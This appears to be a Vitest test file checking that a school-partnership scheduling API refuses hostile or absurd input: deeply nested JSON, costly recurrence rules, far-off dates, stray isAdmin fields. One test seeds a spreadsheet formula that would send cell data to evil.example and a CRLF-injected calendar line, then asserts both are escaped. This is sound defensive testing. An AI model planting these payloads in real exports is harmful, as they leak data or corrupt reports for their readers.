import { describe, expect, it } from 'vitest';
import { type ApiStack, useApiStack } from '../support/api-stack.js';
import { DAY } from '../support/time.js';

/**
 * Input that once answered 500 or was accepted though absurd: each is a 400 naming the field, and
 * nothing is written.
 */
const stack: ApiStack = useApiStack('tandem-hostile');
const soon = (ms: number) => new Date(Date.now() + ms).toISOString();

const partnership = (over: Record<string, unknown> = {}) => ({
  name: 'Lakeside literacy',
  district: { name: 'Lakeside USD' },
  partner: { name: 'Center for School Change' },
  timeZone: 'America/Chicago',
  firstReviewAt: soon(30 * DAY),
  members: [{ name: 'Ana Diaz', email: 'ana@lakeside.example', role: 'district_lead' }],
  ...over,
});

type Problem = { status: number; detail: string; errors?: { path: string; message: string }[] };

async function refused(method: string, path: string, body: unknown, field: string | RegExp) {
  const res = await stack.call<Problem>(stack.adminKey, method, path, body);
  expect(res.status, res.text).toBe(400);
  expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  const paths = (res.json.errors ?? []).map((e) => e.path);
  if (typeof field === 'string') expect(paths, res.text).toContain(field);
  else
    expect(
      paths.some((p) => field.test(p)),
      res.text,
    ).toBe(true);
  return res.json;
}

describe('hostile and absurd input', () => {
  it('refuses a body nested thousands of levels deep', async () => {
    // Written out by hand: JSON.stringify itself cannot go that deep.
    const deep = `${'{"a":'.repeat(5000)}"x"${'}'.repeat(5000)}`;
    for (const [path, body, at] of [
      ['/partnerships', `{"name":${deep}}`, /^body\.name(\.a)+$/],
      ['/schedule-preview', `[${deep}]`, /^body\.0(\.a)+$/],
    ] as const) {
      const res = await fetch(`${stack.baseUrl}${path}`, {
        method: 'POST',
        headers: { authorization: `Bearer ${stack.adminKey}`, 'content-type': 'application/json' },
        body,
      });
      const problem = (await res.json()) as Problem;
      expect(res.status, JSON.stringify(problem)).toBe(400);
      expect(problem.detail).toMatch(/nested more than 32 levels/);
      expect(problem.errors?.[0]?.path).toMatch(at);
    }
  });

  it('refuses a recurrence that never falls on a date', async () => {
    const recurrence = { rrule: 'FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30', start: '2027-02-01T15:30' };
    const preview = await refused('POST', '/schedule-preview', { timeZone: 'America/Chicago', recurrence }, 'recurrence');
    expect(preview.detail).toMatch(/finds no date/);
    // In plain words, without the library's reason.
    expect(preview.detail).not.toMatch(/iterations|all\(\)/i);
    await refused('POST', '/partnerships', partnership({ firstReviewAt: undefined, recurrence }), 'recurrence');
  });

  it('refuses dates beyond ten years and durations beyond their bounds', async () => {
    await refused('POST', '/partnerships', partnership({ firstReviewAt: '9999-12-31T23:00:00Z' }), 'firstReviewAt');
    await refused('POST', '/partnerships', partnership({ reminderOffsets: ['P99999999Y'] }), 'reminderOffsets.0');
    await refused('POST', '/partnerships', partnership({ outcomeGrace: 'P2Y' }), 'outcomeGrace');
    await refused('POST', '/partnerships', partnership({ policy: { reflectionWindow: 'P50Y' } }), 'policy.reflectionWindow');
    await refused(
      'POST',
      '/partnerships',
      partnership({ firstReviewAt: undefined, recurrence: { rrule: 'FREQ=MONTHLY;INTERVAL=3', start: '9999-01-05T15:30' } }),
      'recurrence.start',
    );
    await refused('POST', '/partnerships', partnership({ blackouts: [{ start: '1066-10-14', end: '1066-10-15' }] }), 'blackouts.0.start');
    await refused(
      'POST',
      '/schedule-preview',
      { timeZone: 'America/Chicago', recurrence: { rrule: 'FREQ=MONTHLY', start: '2027-01-05T15:30' }, after: '9999-01-01T00:00:00Z' },
      'after',
    );
  });

  it('refuses unknown fields inside members', async () => {
    const problem = await refused(
      'POST',
      '/partnerships',
      partnership({ members: [{ name: 'Ana Diaz', email: 'ana@lakeside.example', role: 'district_lead', isAdmin: true }] }),
      'members.0',
    );
    expect(problem.errors?.find((e) => e.path === 'members.0')?.message).toMatch(/isAdmin/);
  });

  it('refuses a recurrence that is absurd or costly quickly, and keeps serving everyone meanwhile', async () => {
    const preview = (rrule: string, start: string) =>
      stack.call<Problem>(stack.adminKey, 'POST', '/schedule-preview', { timeZone: 'America/Chicago', recurrence: { rrule, start } });
    const health: number[] = [];
    let done = false;
    // /health answers fast throughout: no rule holds the event loop.
    const probe = (async () => {
      while (!done) {
        const t = performance.now();
        await fetch(`${stack.baseUrl}/health`);
        health.push(performance.now() - t);
        await new Promise((r) => setTimeout(r, 20));
      }
    })();
    const started = performance.now();
    for (const [rrule, start, message] of [
      ['FREQ=YEARLY;INTERVAL=999', '2000-02-29T15:30', /INTERVAL=999 is too long/],
      ['FREQ=YEARLY;INTERVAL=7999', '2000-02-29T15:30', /INTERVAL=7999 is too long/],
      ['FREQ=DAILY;BYSECOND=0,10,20,30,40,50', '2027-01-12T15:30', /BYHOUR, BYMINUTE and BYSECOND are not allowed/],
      ['FREQ=MINUTELY;INTERVAL=10', '2027-01-12T15:30', /FREQ=MINUTELY is not allowed/],
      ['FREQ=MONTHLY;BYDAY=-1FR;BYMONTHDAY=13', '2027-01-12T15:30', /finds no date/],
    ] as const) {
      const res = await preview(rrule, start);
      expect([rrule, res.status], res.text).toEqual([rrule, 400]);
      expect(res.json.detail).toMatch(message);
    }
    const far = await preview('FREQ=MONTHLY;INTERVAL=3', '2400-02-29T15:30');
    expect(far.status).toBe(400);
    done = true;
    await probe;
    expect(performance.now() - started).toBeLessThan(20_000);
    // A held event loop shows as one answer that waited for it (the old rules held it 12 s and more);
    // the limit is generous for a busy machine, where /health itself checks three dependencies.
    expect(health.length).toBeGreaterThan(0);
    expect(Math.max(...health)).toBeLessThan(1_000);
  });

  it('keeps a time zone by its canonical name, and refuses one that is not a zone', async () => {
    const created = await stack.call<{ id: string; timeZone: string }>(
      stack.adminKey,
      'POST',
      '/partnerships',
      partnership({ name: 'Zone test', timeZone: 'america/chicago', district: { name: 'Zone USD' } }),
    );
    expect([created.status, created.json.timeZone], created.text).toEqual([201, 'America/Chicago']);
    await refused('POST', '/partnerships', partnership({ timeZone: '+05:00' }), 'timeZone');
    await refused('POST', '/partnerships', partnership({ timeZone: 'Mars/Olympus' }), 'timeZone');
    await stack.database.db.$executeRaw`UPDATE partnership SET status = 'ended_early' WHERE id = ${created.json.id}::uuid`;
  });

  it('writes stored text that would attack its reader harmlessly: formulas in CSV, line breaks in calendars', async () => {
    const created = await stack.call<{ id: string }>(
      stack.adminKey,
      'POST',
      '/partnerships',
      partnership({ name: 'Output test', district: { name: 'Output USD' } }),
    );
    expect(created.status, created.text).toBe(201);
    const db = stack.database.db;
    const ana = await db.person.findUniqueOrThrow({ where: { email: 'ana@lakeside.example' } });
    // As stored before names were held to one line, or by whatever writes the database directly.
    await db.$executeRaw`UPDATE partnership SET name = ${'Output\r\nX-INJECTED:1'} WHERE id = ${created.json.id}::uuid`;
    await db.commitment.create({
      data: {
        partnershipId: created.json.id,
        ownerId: ana.id,
        side: 'district',
        description: '=HYPERLINK("http://evil.example/?x="&A1,"details")',
        dueAt: new Date(Date.now() - 86_400_000),
        status: 'overdue',
      },
    });
    const csv = await stack.call(stack.adminKey, 'GET', '/reports/overdue-commitments.csv');
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""details"")"`);
    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const ics = await stack.call(stack.adminKey, 'GET', `/partnerships/${created.json.id}/calendar.ics`);
    expect(ics.status, ics.text).toBe(200);
    expect(ics.text).not.toMatch(/^X-INJECTED/m);
    await db.$executeRaw`UPDATE partnership SET status = 'ended_early' WHERE id = ${created.json.id}::uuid`;
  });

  it('refuses far-off due dates and reschedules on an existing partnership, and none of the above wrote anything', async () => {
    expect(await stack.database.db.partnership.count({ where: { name: { notIn: ['Zone test', 'Output\r\nX-INJECTED:1'] } } })).toBe(0);
    const created = await stack.call<{ id: string; firstReview: { id: string } }>(stack.adminKey, 'POST', '/partnerships', partnership());
    expect(created.status, created.text).toBe(201);
    const { id, firstReview } = created.json;
    const far = '9999-06-01T12:00:00Z';
    await refused(
      'POST',
      `/partnerships/${id}/commitments`,
      { ownerEmail: 'ana@lakeside.example', side: 'district', description: 'x', dueAt: far },
      'dueAt',
    );
    await refused('POST', `/partnerships/${id}/reviews/${firstReview.id}/reschedule`, { at: far }, 'at');
    await refused(
      'POST',
      `/partnerships/${id}/reviews/${firstReview.id}/outcome`,
      { outcome: 'held', evidenceRequests: [{ ownerEmail: 'ana@lakeside.example', description: 'x', kinds: ['survey'], dueAt: far }] },
      'evidenceRequests.0.dueAt',
    );
    const db = stack.database.db;
    expect([
      await db.partnership.count({ where: { name: { notIn: ['Zone test', 'Output\r\nX-INJECTED:1'] } } }),
      await db.commitment.count({ where: { partnershipId: id } }),
      await db.evidenceRequest.count(),
    ]).toEqual([1, 0, 0]);
  });
});
